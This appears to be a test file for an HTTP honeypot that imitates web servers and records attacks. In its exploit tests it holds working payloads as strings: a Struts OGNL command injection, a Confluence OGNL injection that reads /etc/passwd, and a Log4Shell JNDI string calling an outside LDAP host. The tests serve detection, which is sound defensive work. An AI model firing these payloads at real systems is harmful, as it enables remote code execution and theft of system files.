import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { shippedDecoys } from '../../package.ts';
import { mutate, randomOf } from '../fixtures/mutation.ts';
import { type Place, placeOf } from '../fixtures/visitor.ts';
import { personaOf } from '../persona/persona.ts';
import { View } from '../world/files/view.ts';
import { readApplications } from './application.ts';
import { decoy } from './decoy.ts';
import { bytesOf } from './fixtures/sample.ts';

const applications = readApplications(`${shippedDecoys}/http`);
const faces = applications.filter((one) => one.face);

/** A sensor that shows that application. */
function showing(application: string): Place {
  for (let seed = 0; seed < 1000; seed += 1)
    if (personaOf(`face ${seed}`).random('http/face').pick(faces).application === application)
      return placeOf(decoy, `face ${seed}`);
  throw new Error(`no persona shows ${application}`);
}

async function ask(place: Place, sample: string): Promise<string> {
  return (await place.connect().ask(bytesOf(sample))).toString('latin1');
}

describe('what the port shows', () => {
  const servers = {
    apache: /^Server: Apache\/2\.4/m,
    nginx: /^Server: nginx/m,
    tomcat: /^HTTP\/1\.1 \d{3} \r\n/,
    jetty: /^Server: Jetty\(9\.4/m,
    aiohttp: /^Server: Python\/3\.9 aiohttp/m,
    go: /^Date: /m,
  } as const;

  for (const { application, server, pages } of faces)
    it(`${application}, all of whose pages are by its server`, async () => {
      const place = showing(application);
      for (const { method, path, status } of pages) {
        const answer = await ask(place, `${method} ${path} HTTP/1.1`);
        assert.match(answer, new RegExp(`^HTTP/1\\.1 ${status} `), `${method} ${path}`);
        assert.match(answer, servers[server]);
        assert.doesNotMatch(answer, /\{\{/, 'a placeholder without its value');
        const length = /^Content-Length: (\d+)\r$/m.exec(answer)?.[1];
        assert.equal(String(answer.length - answer.indexOf('\r\n\r\n') - 4), length, path);
      }
      assert.match(await ask(place, 'GET /nothing-there HTTP/1.1'), /^HTTP\/1\.1 404 /);
      assert.deepEqual(
        new Set(place.events.map((one) => one.type)),
        new Set(['request']),
        'whoever looks around is noise',
      );
    });
});

describe('an exploit', () => {
  const struts =
    "GET /index.action HTTP/1.1\nContent-Type: %{(#cmd='echo \"$(id -un)\"; echo kept > /tmp/.x').(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))}";
  const confluence =
    'GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22cat%20/etc/passwd%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/ HTTP/1.1';

  it('runs in the emulated machine, is told with its command, and stays', async () => {
    const place = showing('Ray');
    await ask(place, struts);
    const [event] = place.events;
    assert.equal(event!.type, 'exploit');
    assert.equal(event!.data!.application, 'Apache Struts');
    assert.equal(event!.data!.command, 'echo "$(id -un)"; echo kept > /tmp/.x');
    assert.equal(event!.data!.output, 'tomcat\n', 'an account of which the machine knew nothing');
    assert.deepEqual(
      event!.artefacts!.map(({ name, content }) => `${name}: ${Buffer.from(content)}`),
      ['/tmp/.x: kept\n'],
    );
    assert.equal(Buffer.from(new View(place.world.files).read('/tmp/.x')).toString(), 'kept\n');
  });

  it('is answered by its own application, whatever the port shows; its output breaks no head', async () => {
    const answer = await ask(showing('Ray'), confluence);
    const [head = '', body] = answer.split('\r\n\r\n');
    assert.match(head, /^HTTP\/1\.1 302 \r\nX-Cmd-Response: root:x:0:0:root:\/root:\/bin\/bash daemon:x:/);
    assert.deepEqual(
      head.split('\r\n').map((line) => line.split(':', 1)[0]),
      ['HTTP/1.1 302 ', 'X-Cmd-Response', 'Location', 'Content-Length', 'Date'],
    );
    assert.equal(body, '');
  });

  it('of Log4j in any header is told with its addresses, and the port answers as always', async () => {
    const place = showing('Ray');
    const attack = '${${lower:j}ndi:ldap://192.0.2.8:1389/Exploit}';
    const answer = await ask(place, `GET / HTTP/1.1\nX-Api-Version: ${attack}`);
    assert.equal(
      answer.replace(/^Date: .*$/m, ''),
      (await ask(place, 'GET / HTTP/1.1')).replace(/^Date: .*$/m, ''),
    );
    assert.equal(place.events[0]!.type, 'exploit');
    assert.equal(place.events[0]!.data!.exploit, 'CVE-2021-44228');
    assert.match(JSON.stringify(place.events[0]!.data!.jndi), /192\.0\.2\.8:1389/);
  });
});

it('requests that are nearly right break nothing', async () => {
  const place = placeOf(decoy);
  const random = randomOf(20_211_210);
  const samples = applications.flatMap((one) => one.exploits.flatMap(({ samples }) => samples));
  for (const { request } of samples) await place.connect().ask(mutate(bytesOf(request), random), 5);
  assert.match(await ask(place, 'GET / HTTP/1.1'), /^HTTP\/1\.1 [23]\d\d /);
});
